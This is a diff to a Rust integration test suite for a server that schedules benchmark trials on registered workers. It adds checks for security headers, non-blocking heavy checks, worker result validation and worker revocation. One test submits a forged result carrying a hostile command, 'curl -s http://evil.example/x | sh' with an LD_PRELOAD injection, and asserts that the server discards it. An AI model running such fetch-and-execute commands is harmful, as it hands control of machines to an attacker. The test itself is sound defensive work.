@@ -68,6 +68,16 @@ async fn other_sites_cannot_change_anything_nor_rebind_a_name() {
             None => r,
         }
     };
+    // No other site may frame a page, and a page loads nothing from elsewhere.
+    let page = http().get(server.url("/studies")).send().await.unwrap();
+    let policy = page.headers()["content-security-policy"].to_str().unwrap().to_string();
+    for part in
+        ["frame-ancestors 'none'", "default-src 'self'", "img-src 'self'", "object-src 'none'"]
+    {
+        assert!(policy.contains(part), "{policy}");
+    }
+    assert_eq!(page.headers()["x-frame-options"], "DENY");
+    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
     // A form another site posts through the user's browser: refused.
     for origin in ["http://evil.example", "http://127.0.0.1:1", "null"] {
         let (status, body) = answer(form(Some(origin))).await;
@@ -143,6 +153,38 @@ async fn small_requests_cannot_ask_for_the_server_s_stack_memory_or_time() {
     // Still alive, and still checking.
     let (status, body) = answer(check(study(json!({ "threads": [1, 2] })))).await;
     assert_eq!(status, 200, "{body}");
+    server.stop().await;
+}
+
+/// A check of 100,000 configurations under 32 constraints is seconds of
+/// CPU: it runs off the request threads, so the pages answer meanwhile
+/// (here the server shares one thread with the test: a check on it would
+/// hold every other request until it ended).
+#[tokio::test]
+async fn a_heavy_check_leaves_the_pages_answering() {
+    let server = TestServer::start().await;
+    let _: Value = common::get_json(&server, "/api/profiles").await;
+    let list = |n: i64, step: i64| (1..=n).map(|i| i * step).collect::<Vec<_>>();
+    let mut heavy = study(json!({
+        "threads": list(50, 1), "batch_size": list(40, 64), "ubatch_size": list(50, 8),
+    }));
+    heavy["baseline"] = json!({ "threads": 1, "batch_size": 64, "ubatch_size": 8 });
+    let constraints: Vec<String> =
+        (0..32).map(|i| format!("threads * batch_size + ubatch_size > -{i}")).collect();
+    heavy["constraints"] = json!(constraints);
+    let url = server.url("/api/studies/check");
+    let check = tokio::spawn(http().post(url).json(&heavy).send());
+    // Once the check is under way, other requests are answered before it.
+    eventually(Duration::from_secs(30), "the check under way", || async {
+        let answered = http().get(server.url("/api/profiles")).send().await.ok()?;
+        (answered.status() == 200 && !check.is_finished()).then_some(())
+    })
+    .await;
+    assert!(!check.is_finished(), "the pages answered while the check ran");
+    let r = check.await.unwrap().unwrap();
+    assert_eq!(r.status(), 200);
+    let preview: Value = r.json().await.unwrap();
+    assert_eq!(preview["grid_size"], 100_000);
     server.stop().await;
 }
 
@@ -282,5 +324,62 @@ async fn a_worker_runs_only_what_it_registered_and_sends_plain_names() {
     assert_eq!(status, 200, "{body}");
     let claimed: Value = serde_json::from_str(&body).unwrap();
     assert_eq!(claimed["trial"]["id"], json!(queued.id), "{claimed}");
+
+    // A result says what was measured, never what others should run, and
+    // its times are times.
+    let result_url = server.url(&format!("/api/worker/trials/{}/result", queued.id));
+    let now =
+        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis()
+            as i64;
+    let evil = json!({
+        "program": "/bin/sh",
+        "args": ["-c", "curl -s http://evil.example/x | sh"],
+        "env": { "LD_PRELOAD": "/tmp/x.so" },
+        "display": "/bin/sh -c 'curl -s http://evil.example/x | sh'",
+    });
+    let result = |started: Value| {
+        json!({
+            "columns": {
+                "state": "done", "decode_tps": 40.0, "started_ms": started,
+                "finished_ms": now, "command": evil.to_string(),
+            },
+            "samples": [],
+        })
+    };
+    let post = |body: Value| http().post(&result_url).bearer_auth(&honest).json(&body);
+    let (status, body) = answer(post(result(json!(i64::MAX)))).await;
+    assert_eq!(status, 400, "{body}");
+    assert!(body.contains("`started_ms`") && body.contains("not a time"), "{body}");
+    let (status, body) = answer(post(result(json!(now - 5_000)))).await;
+    assert_eq!(status, 204, "{body}");
+    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", queued.id)).await;
+    assert_eq!(t.state, TrialState::Done);
+    let command = t.command.unwrap_or_default();
+    assert!(command.contains("llama-server") && command.contains("-m "), "{command}");
+    assert!(!command.contains("evil") && !command.contains("/bin/sh"), "{command}");
+
+    // Names are short, plain and never `.` or `..`.
+    for name in [".", "..", ".hidden", &"w".repeat(65)] {
+        let r = http().post(server.url("/api/workers")).json(&json!({ "name": name }));
+        let (status, body) = answer(r).await;
+        assert_eq!(status, 400, "{name}: {body}");
+        assert!(body.contains("a worker's name is up to 64"), "{body}");
+    }
+    // A revoked worker's own trials fail, said why, rather than wait for it.
+    let mine: TrialView = http()
+        .post(server.url("/api/trials"))
+        .json(&json!({ "profile": "demo", "model": "tiny-llama", "settings": {}, "target": "honest" }))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(mine.state, TrialState::Queued);
+    let r = http().delete(server.url("/api/workers/honest")).send().await.unwrap();
+    assert_eq!(r.status(), 204);
+    let t: TrialView = common::get_json(&server, &format!("/api/trials/{}", mine.id)).await;
+    assert_eq!(t.state, TrialState::Failed);
+    assert_eq!(t.error.as_deref(), Some("its worker `honest` was revoked"));
     server.stop().await;
 }
